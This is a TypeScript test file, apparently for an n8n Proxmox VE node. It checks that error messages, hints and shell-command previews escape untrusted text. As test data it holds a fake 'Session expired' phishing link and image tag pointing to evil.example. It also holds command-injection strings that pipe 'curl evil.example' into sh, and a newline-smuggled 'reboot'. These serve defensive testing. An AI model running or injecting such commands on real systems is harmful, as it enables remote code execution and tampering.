import type { IDataObject, NodeApiError } from 'n8n-workflow';

import { shellQuote } from '../../nodes/ProxmoxVe/runtime/shellQuote';
import { openLab, type Lab } from '../support/lab';

const picked = (value: string) => ({ __rl: true, mode: 'list', value });
const LINK =
	'<a href="https://evil.example/login">Session expired</a><img src=https://evil.example/k.png>';
const IN_HTML =
	'&lt;a href=&quot;https://evil.example/login&quot;&gt;Session expired&lt;/a&gt;&lt;img src=https://evil.example/k&#46;png&gt;'.replace(
		'&#46;',
		'.',
	);

let lab: Lab;
beforeEach(async () => {
	lab = await openLab();
});
afterEach(async () => await lab.close());

const shownAsHtml = (error: unknown) => String((error as NodeApiError).context.descriptionTemplate);
const withoutBreaks = (html: string) => html.replace(/<br>\n/g, '');

/** Nothing in an error becomes markup: neither where n8n renders it nor where others might. */
function expectSafe(error: unknown): void {
	const { message, description } = error as NodeApiError;
	expect(withoutBreaks(shownAsHtml(error))).not.toMatch(
		/[<>"'`]|&(?!(?:amp|lt|gt|quot|#39|#96|#37);)/,
	);
	for (const text of [message, String(description)]) expect(text).not.toMatch(/<[a-z/!?]/i);
}

const answer = (status: number, message: string, errors?: IDataObject) => ({
	status,
	phrase: 'x',
	body: JSON.stringify({ data: null, message, ...(errors ? { errors } : {}) }),
	headers: { 'content-type': 'application/json' },
});

describe('text from outside is no markup in an error', () => {
	it('from a name and a value in JSON', async () => {
		const json = JSON.stringify({ name: 'a_b', cores: LINK, [LINK]: '1', memory: LINK });
		const { error } = await lab.run({ specifyVm: 'json', vmJson: json });
		expectSafe(error);
		// What is shown of a value is cut.
		expect(shownAsHtml(error)).toContain(IN_HTML.slice(0, 70));
	});

	it('from an additional parameter', async () => {
		const { error } = await lab.run({
			additionalParameters: { values: [{ name: LINK, value: LINK }] },
		});
		expectSafe(error);
	});

	it('from the message of a refusal and the texts of a 400', async () => {
		lab.emulator.faults.onRequest({
			method: 'POST',
			path: /\/qemu$/,
			effect: answer(500, `no ${LINK} no`),
		});
		const refused = await lab.run({});
		expectSafe(refused.error);
		lab.emulator.faults.onRequest({
			method: 'POST',
			path: /\/qemu$/,
			effect: answer(400, 'Parameter verification failed.', {
				cores: 'bad',
				[LINK]: LINK,
				memory: LINK,
			}),
		});
		const invalid = await lab.run({});
		expectSafe(invalid.error);
		expect(shownAsHtml(invalid.error)).toContain(IN_HTML);
	});

	it('from the exit status and the log of a task', async () => {
		lab.emulator.faults.onTask({ type: 'qmcreate', failsBefore: `command 'x' failed: ${LINK}` });
		const { error } = await lab.run({});
		expectSafe(error);
		expect(shownAsHtml(error)).toContain(`TASK ERROR: command &#39;x&#39; failed: ${IN_HTML}`);
	});

	it('from the name of a node and a storage', async () => {
		for (const parameters of [
			{ node: picked(LINK) },
			{ restore: {}, operation: 'restore', archive: picked(`${LINK}:backup/x`) },
			{ operation: 'start', vm: picked(LINK) },
		]) {
			const { error } = await lab.run(parameters);
			expect(error).toBeDefined();
			expectSafe(error);
		}
	});

	it('in a hint', async () => {
		const { storages } = lab.emulator.state;
		storages.set('<b>x', {
			storage: '<b>x',
			type: 'dir',
			path: '/x',
			content: ['backup'],
			total: 1,
			used: 0,
			shared: false,
			disabled: false,
			unmounted: true,
		});
		const { runData } = await lab.run({ resource: 'backup', operation: 'getAll', returnAll: true });
		const hints = Object.values(runData)
			.flat()
			.flatMap((data) => data?.hints ?? []);
		expect(hints.map(({ message }) => message)).toEqual([
			expect.stringContaining('offline, &lt;b&gt;x') as string,
		]);
	});

	it('from other items', async () => {
		const { error } = await lab.run({ name: '={{ $json.name }}' }, [
			{ name: 'ok' },
			{ name: LINK },
			{ name: `${LINK}2` },
		]);
		expectSafe(error);
		expect(shownAsHtml(error)).toMatch(/Other items also failed:<br>\n.*‹a href=&quot;/);
	});
});

describe('plain text', () => {
	const json = JSON.stringify({ name: 'a_b', cores: LINK });

	it('is what an error workflow gets', async () => {
		const { execution } = await lab.run({ specifyVm: 'json', vmJson: json });
		// What n8n hands to an Error Trigger.
		const { message, description } = JSON.parse(
			JSON.stringify(execution.resultData.error),
		) as NodeApiError;
		expect(description).toContain('Nothing was sent to Proxmox VE.');
		expect(`${message}\n${description}`).not.toMatch(/<br>|&\w+;|&#\d+;/);
	});

	it('is what the error output gets, as it was', async () => {
		const { items } = await lab.run({ specifyVm: 'json', vmJson: json }, [{}], {
			onError: 'continueErrorOutput',
		});
		const { description } = items[1]?.[0]?.json.error as { description: string };
		expect(description).toContain(`got "${LINK.slice(0, 60)}`);
		expect(description).toContain('\nNothing was sent to Proxmox VE.');
		expect(description).not.toMatch(/<br>|&\w+;/);
	});
});

describe('a word for a shell', () => {
	it.each([
		['scsi0', 'scsi0'],
		['', "''"],
		['--x 1; curl evil | sh #', "'--x 1; curl evil | sh #'"],
		["it's $(x) `y`", "'it'\\''s $(x) `y`'"],
		['two\nlines', "'two\nlines'"],
		["tab\tesc\x1b[201~'\\", "$'tab\\u0009esc\\u001b[201~\\'\\\\'"],
	])('%j is %s', (word, quoted) => expect(shellQuote(word)).toBe(quoted));

	it('is each one of a preview, names of additional parameters too', async () => {
		const { command } = await lab.output({
			options: { preview: true },
			additionalParameters: {
				values: [
					{ name: 'x 1; curl evil.example | sh #', value: '1' },
					{ name: '-y\nreboot', value: "a'b" },
				],
			},
		});
		expect(command).toContain(" '--x 1; curl evil.example | sh #' 1");
		expect(command).toContain(" '---y\nreboot' 'a'\\''b'");
	});
});
